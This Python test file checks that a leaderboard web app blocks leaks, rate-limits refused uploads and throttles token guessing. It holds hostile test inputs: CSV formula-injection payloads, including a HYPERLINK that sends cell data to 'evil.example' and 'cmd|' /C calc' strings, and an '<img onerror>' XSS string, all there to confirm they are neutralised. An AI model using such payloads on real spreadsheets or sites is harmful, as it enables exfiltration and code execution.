"""Regression tests of the leaks and missing limits seen on the running app, through a real
server where the attack went through it: hidden entries in `/submission_status`, refused
archives kept and refusals unlimited, maintainer tokens guessed at full speed, CSV formulas
and export folders left behind, raw HTML in the report, server paths in messages, and
per-item scores of other people's entries."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import tempfile
import time
import urllib.request
from pathlib import Path

import pandas as pd
import pytest
from attack_helpers import Clock, call_handler, fake_service, served, submit
from leaderboard_fakes import scores_for, write_fake_archive

from leaderboard.errors import ServiceError

gradio_client = pytest.importorskip("gradio_client")


def _archive(tmp_path: Path, ids: list[str], name: str, value: float, **extra: object) -> Path:
    return write_fake_archive(tmp_path / f"{name}.zip", name, scores_for(ids, value), **extra)


def _score_all(service) -> None:
    worker = service.make_worker()
    while worker.run_once() is not None:
        pass


def _json(base: str) -> list[dict]:
    with urllib.request.urlopen(base + "api/leaderboard.json", timeout=10) as response:
        return json.loads(response.read())


def test_hidden_and_deleted_entries_are_invisible_to_the_public(tmp_path: Path) -> None:
    service, ids = fake_service(tmp_path)
    try:
        with served(service) as (base, demo):
            client = gradio_client.Client(base, verbose=False)
            secret = submit(client, _archive(tmp_path, ids, "Secret", 0.61), "alice",
                            {"method": "Secret net"})  # fmt: skip
            other = submit(client, _archive(tmp_path, ids, "Other", 0.4), "bob")
            _score_all(service)
            status = client.predict(secret, api_name="/submission_status")
            assert status["status"] == "done" and status["overall"]
            internal = service.status(secret, actor="token")["entry"]
            # ids are opaque: the sequential row id is no public id
            for guess in (str(internal), f"s{internal:016x}", "1", "2"):
                with pytest.raises(Exception, match="no submission"):
                    client.predict(guess, api_name="/submission_status")
            service.admin_action("hide", [internal], "token")
            status = client.predict(secret, api_name="/submission_status")
            assert status["hidden"] and "overall" not in status and "per_class" not in status
            assert "hidden by a maintainer" in status["reason"]
            assert "Secret" not in json.dumps(client.predict(api_name="/leaderboard"))
            assert "Secret" not in json.dumps(_json(base))
            choices = call_handler(base, demo, "choices", [], session="page1")
            assert "Secret" not in json.dumps(choices)
            with pytest.raises(RuntimeError, match="not in the list of choices"):
                call_handler(base, demo, "compare", [internal, 2, ""], session="page1")
            with pytest.raises(ServiceError, match="not a visible, scored entry"):
                service.compare(internal, 2, actor="token")
            service.admin_action("unhide", [internal], "token")
            service.admin_action("delete", [internal], "token")
            with pytest.raises(Exception, match="no submission"):
                client.predict(secret, api_name="/submission_status")
            assert [r["Method"] for r in client.predict(api_name="/leaderboard")] == ["Other"]
            assert client.predict(other, api_name="/submission_status")["status"] == "done"
    finally:
        service.close()


def test_refused_archives_are_deleted_and_refusals_are_rate_limited(tmp_path: Path) -> None:
    clock = Clock()
    service, ids = fake_service(tmp_path, clock=clock, max_refusals=3, refusal_window_s=600)
    try:
        with served(service) as (base, _):
            client = gradio_client.Client(base, verbose=False)
            for k in range(3):
                bad = _archive(tmp_path, ids, f"bad{k}", 0.5, error=f"broken grid {k}")
                with pytest.raises(Exception, match=f"rejected: broken grid {k}"):
                    submit(client, bad, "mallory")
            assert service.store.all() == []  # deleted at once ...
            with sqlite3.connect(service.settings.home / "svr.db") as con:
                reasons = [r[0] for r in con.execute("SELECT reason FROM submissions")]
            assert reasons == [f"broken grid {k}" for k in range(3)]  # ... the reasons kept
            good = _archive(tmp_path, ids, "good", 0.5)
            with pytest.raises(Exception, match="too many refused submissions from this"):
                submit(client, good, "mallory")  # refused before its archive is read
            with pytest.raises(Exception, match="too many refused submissions from this address"):
                submit(client, good, "trent")  # another name from the same address
            assert service.store.all() == []
            clock.now += 601  # the in-process windows forget ...
            assert submit(client, good, "trent").startswith("s")
            with pytest.raises(Exception, match="too many refused submissions from this submitter"):
                submit(client, _archive(tmp_path, ids, "good2", 0.6), "MALLORY")  # ... the DB not
    finally:
        service.close()
    # A restart forgets the in-process counts; the failed rows still count for the name.
    from leaderboard_fakes import fake_open, fake_score

    from leaderboard.service import LeaderboardService

    again = LeaderboardService(service.settings, service.benchmark_dir, score_fn=fake_score,
                               open_fn=fake_open)  # fmt: skip
    try:
        with pytest.raises(Exception, match="too many refused submissions from this submitter"):
            again.submit(_archive(tmp_path, ids, "good3", 0.7), {}, "mallory")
    finally:
        again.close()


def test_maintainer_tokens_are_throttled_per_client_with_exponential_backoff(
    tmp_path: Path,
) -> None:
    clock = Clock()
    service, _ = fake_service(tmp_path, clock=clock)
    try:
        with served(service) as (base, demo):
            for _ in range(3):
                with pytest.raises(RuntimeError, match="wrong or missing token"):
                    call_handler(base, demo, "show_all", ["guess"])
            waits = []
            for expected in (1, 2, 4, 8):
                with pytest.raises(RuntimeError, match=rf"try again in {expected} s"):
                    call_handler(base, demo, "show_all", ["s3cret"])  # not even looked at
                clock.now += expected
                with pytest.raises(RuntimeError, match="wrong or missing token"):
                    call_handler(base, demo, "show_all", ["guess"])
                waits.append(expected)
            assert waits == [1, 2, 4, 8]
            clock.now += 16
            table = call_handler(base, demo, "show_all", ["s3cret"])[0]
            assert table["headers"][:2] == ["ID", "Public ID"]
            with pytest.raises(RuntimeError, match="wrong or missing token"):
                call_handler(base, demo, "show_all", ["guess"])  # the right token reset it
    finally:
        service.close()


def test_csv_exports_neutralise_formulas_and_leave_nothing_behind(tmp_path: Path) -> None:
    from leaderboard.exports import ExportFolder

    service, ids = fake_service(tmp_path)
    exports = ExportFolder(tmp_path / "exports", max_age_s=0.5)
    hostile = {
        "method": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "authors": "@SUM(1+1)*cmd|' /C calc'!A0",
        "training_data": "+cmd|' /C notepad'!A0",
    }
    try:
        service.submit(_archive(tmp_path, ids, "evil", 0.5), hostile, "mallory")
        service.submit(_archive(tmp_path, ids, "plain", 0.4), {"training_data": "-2+3"}, "ann")
        _score_all(service)
        before = set(Path(tempfile.gettempdir()).glob("svr-leaderboard-export-*"))
        with served(service, exports) as (base, demo):
            (csv_file,) = call_handler(base, demo, "export_csv", ["", [], True, False], "page")
            url = csv_file["url"]
            url = url if url.startswith("http") else base + url.lstrip("/")
            with urllib.request.urlopen(url, timeout=10) as r:
                text = r.read().decode("utf-8")
            for _ in range(3):  # exporting again overwrites: one file per kind and session
                call_handler(base, demo, "export_json", ["", [], True, False], "page")
            files = [p for p in exports.root.rglob("*") if p.is_file()]
            assert {p.parent.name for p in files} == {"page"}
            assert {p.name for p in files} <= {"leaderboard.csv", "leaderboard.json"}
            assert "leaderboard.json" in {p.name for p in files}
        rows = list(csv.DictReader(io.StringIO(text)))
        evil = next(r for r in rows if "HYPERLINK" in r["Method"])
        assert evil["Method"] == "'" + hostile["method"]
        assert evil["Authors"] == "'" + hostile["authors"]
        assert evil["Training data"] == "'" + hostile["training_data"]
        plain = next(r for r in rows if r["Training data"].endswith("-2+3"))
        assert plain["Training data"] == "'-2+3"
        assert float(evil["F@1% ↑"]) == 0.5  # numbers stay numbers
        for cell in (c for r in rows for c in r.values()):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        # the frame-level rule for cells no submitter can type (tab, carriage return)
        from leaderboard.views import csv_safe

        frame = csv_safe(pd.DataFrame({"a": ["\tx", "\ry", "ok", "-1"], "n": [-1.5, 2, 3, 4]}))
        assert frame["a"].tolist() == ["'\tx", "'\ry", "ok", "'-1"]
        assert frame["n"].tolist() == [-1.5, 2, 3, 4]
        # nothing left behind: old files are swept, no per-export temporary folders
        time.sleep(0.6)
        exports.sweep()
        assert not exports.root.exists() or not any(exports.root.iterdir())
        after = set(Path(tempfile.gettempdir()).glob("svr-leaderboard-export-*"))
        assert after == before
    finally:
        service.close()


def test_the_report_escapes_html_and_pipes_in_user_cells(tmp_path: Path) -> None:
    from leaderboard.report import markdown_report

    service, ids = fake_service(tmp_path)
    try:
        service.submit(_archive(tmp_path, ids, "Clustering", 0.4), {}, "baselines", baseline=True)
        service.submit(_archive(tmp_path, ids, "Retrieval", 0.45), {}, "baselines", baseline=True)
        hostile = "<img src=x onerror=alert(1)> | **bold** | [link](http://evil)"
        service.submit(_archive(tmp_path, ids, "h", 0.7), {"method": hostile}, "mallory")
        _score_all(service)
        text = markdown_report(service)
    finally:
        service.close()
    assert "<img" not in text and "&lt;img src=x onerror=alert(1)&gt;" in text
    assert "[link](" not in text and "**bold**" not in text
    for line in text.splitlines():
        if line.startswith("|"):  # every row of a table has as many cells as its header
            cells = re.split(r"(?<!\\)\|", line)
            assert len(cells) == len(re.split(r"(?<!\\)\|", _header_of(text, line))), line


def _header_of(text: str, row: str) -> str:
    lines = text.splitlines()
    k = lines.index(row)
    while k > 0 and lines[k - 1].startswith("|"):
        k -= 1
    return lines[k]


def test_messages_name_no_server_path(tmp_path: Path) -> None:
    service, ids = fake_service(tmp_path)
    home, bench = str(service.settings.home), str(service.benchmark_dir)
    try:
        a = service.submit(_archive(tmp_path, ids, "A", 0.6), {}, "ann")
        b = service.submit(_archive(tmp_path, ids, "B", 0.3), {}, "ben")
        _score_all(service)
        for view in (service.benchmark_dir / "test").rglob("*.png"):
            view.write_bytes(b"not a picture")  # showing a view fails, naming its file
        with served(service) as (base, demo):
            client = gradio_client.Client(base, verbose=False)
            bad = _archive(tmp_path, ids, "bad", 0.5, error=f"cannot parse {home}/scratch/x.npy")
            with pytest.raises(Exception) as info:
                submit(client, bad, "cat")
            assert home not in str(info.value) and "$SVR_HOME/scratch/x.npy" in str(info.value)
            call_handler(base, demo, "choices", [], session="page")
            with pytest.raises(RuntimeError) as info:  # an unexpected error
                call_handler(base, demo, "compare", [a, b, "s3cret"], session="page")
            message = str(info.value)
            assert "internal error (UnidentifiedImageError" in message
            assert bench not in message and home not in message and "<benchmark>" in message
            assert tempfile.gettempdir() + "/" not in message
    finally:
        service.close()


def test_per_item_scores_are_for_maintainers_and_published_figures_have_4_decimals(
    tmp_path: Path,
) -> None:
    service, ids = fake_service(tmp_path)
    try:
        with served(service) as (base, demo):
            client = gradio_client.Client(base, verbose=False)
            a = submit(client, _archive(tmp_path, ids, "A", 0.123456789), "ann")
            submit(client, _archive(tmp_path, ids, "B", 0.3), "ben")
            _score_all(service)
            record = next(r for r in client.predict(api_name="/leaderboard") if r["Method"] == "A")
            assert record["F@1% ↑"] == 0.1235 and record["Chamfer-L1 ↓"] == 0.8765
            status = client.predict(a, api_name="/submission_status")
            assert status["overall"]["mean_of_class_means"]["fscore@0.01"] == 0.1235
            assert status["per_class"]["chair"]["iou"] == {"mean": 0.1235, "median": 0.1235}
            entry_a = service.status(a, actor="token")["entry"]
            entry_b = entry_a + 1
            call_handler(base, demo, "choices", [], session="page")

            def compare(token: str) -> list:
                return call_handler(base, demo, "compare", [entry_a, entry_b, token], "page")

            per_class, items, gallery = compare("")
            assert len(per_class["data"]) == 3 and items["data"] == [] and gallery == []
            per_class, items, gallery = compare("s3cret")
            assert len(items["data"]) == 8 and len(gallery) == 8  # a maintainer sees items
            with pytest.raises(RuntimeError, match="maintainer access refused"):
                compare("guess")
    finally:
        service.close()
